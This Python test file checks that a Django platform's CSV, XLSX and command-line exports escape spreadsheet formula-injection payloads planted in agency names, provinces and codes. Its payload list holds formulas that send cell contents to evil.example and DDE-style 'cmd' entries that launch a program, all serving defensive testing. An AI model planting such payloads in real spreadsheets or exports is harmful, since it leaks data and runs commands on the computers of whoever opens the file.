"""Formula injection through the platform's real exports (security-reliability.md L3): agencies whose names and
province are the review's payloads (and others of the same kinds), exported as the users export them."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse

from prongsai.web.agencies.models import Agency, AgencyKind
from prongsai.web.exports import looks_like_formula
from prongsai.web.results.models import AgencyResult

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"ดูรายละเอียด")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    ' =IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]


@pytest.fixture
def hostile(cast):
    """Four offices named with the payloads (one also with province '=1+1'), each with a 2562 result."""
    for i, name in enumerate(PAYLOADS):
        agency = Agency.objects.create(
            code=f"ESA-EVIL-{i}",
            name_th=name,
            short_name=name,
            kind=AgencyKind.ESA,
            parent=cast.central_office,
            province="=1+1" if i == 0 else "ระยอง",
            region="east",
        )
        AgencyResult.objects.create(
            round=cast.round_2562,
            agency=agency,
            total=Decimal("70.00") - i,
            level="C",
            iit=Decimal("70.00"),
            eit=Decimal("70.00"),
            oit=Decimal("70.00"),
        )
    return cast


def _cells(client, url, params) -> list[list[str]]:
    response = client.get(url, params)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_national_csv_neutralises_every_payload_and_keeps_numbers(client, hostile):
    client.force_login(hostile.central)
    rows = _cells(client, reverse("national_export", kwargs={"fmt": "csv"}), {"round": hostile.round_2562.pk})
    header, body = rows[0], rows[1:]
    names = {row[header.index("รหัส")]: row[header.index("หน่วยงาน")] for row in body}
    for i, payload in enumerate(PAYLOADS):
        assert names[f"ESA-EVIL-{i}"] == "'" + payload
    assert all(not looks_like_formula(cell) for row in rows for cell in row)
    evil = next(row for row in body if row[1] == "ESA-EVIL-0")
    assert evil[header.index("จังหวัด")] == "'=1+1"
    assert evil[header.index("คะแนนรวม")] == "70.00"
    change = [row[header.index("เปลี่ยนแปลง")] for row in body]
    assert all(c == "" or not c.startswith("'") for c in change)  # numbers, even negative ones, stay numbers


def test_national_xlsx_has_no_formula_cell(client, hostile):
    import openpyxl

    client.force_login(hostile.central)
    response = client.get(reverse("national_export", kwargs={"fmt": "xlsx"}), {"round": hostile.round_2562.pk})
    data = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    names = [sheet.cell(row, 3) for row in range(2, sheet.max_row + 1)]
    evil = [c for c in names if c.value in PAYLOADS]
    assert len(evil) == len(PAYLOADS)
    assert all(c.data_type == "s" and c.quotePrefix for c in evil)
    totals = [sheet.cell(row, 11) for row in range(2, sheet.max_row + 1)]
    # numbers stay numbers, shown with two decimals (a spreadsheet keeps 80.00 as the number 80)
    assert all(
        c.data_type == "n" and isinstance(c.value, (int, float)) and c.number_format == "0.00" for c in totals
    ), [(c.value, c.data_type, c.number_format) for c in totals]


def test_survey_progress_export_neutralises_agency_names(client, hostile):
    client.force_login(hostile.central)
    rows = _cells(client, reverse("survey_national_export", kwargs={"round_id": hostile.round_2562.pk}), {})
    assert rows and all(not looks_like_formula(cell) for row in rows for cell in row)


def test_results_template_neutralises_an_agency_code(client, cast):
    Agency.objects.create(code="=1+1", name_th="รหัสแปลก", kind=AgencyKind.ESA, parent=cast.samutsakhon.parent)
    client.force_login(cast.central)
    rows = _cells(client, reverse("results_import_template"), {"round": cast.round_2563.pk})
    assert rows[[r[0] for r in rows].index("'=1+1")][:2] == ["'=1+1", "2563"]


def test_command_line_csv_neutralises_names_from_the_file(tmp_path, capsys):
    from prongsai.cli import main

    path = tmp_path / "results.csv"
    path.write_text(
        "agency,year,"
        + ",".join(f"i{n}" for n in range(1, 11))
        + "\n"
        + '"=HYPERLINK(""http://evil.example"")",2562,'
        + ",".join(["90.00"] * 10)
        + "\n"
        + "-2+3,2562,"
        + ",".join(["80.00"] * 10)
        + "\n",
        encoding="utf-8",
    )
    assert main(["score", str(path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [r[0] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example")', "'-2+3"]
    assert rows[1][rows[0].index("total")] == "90.00"
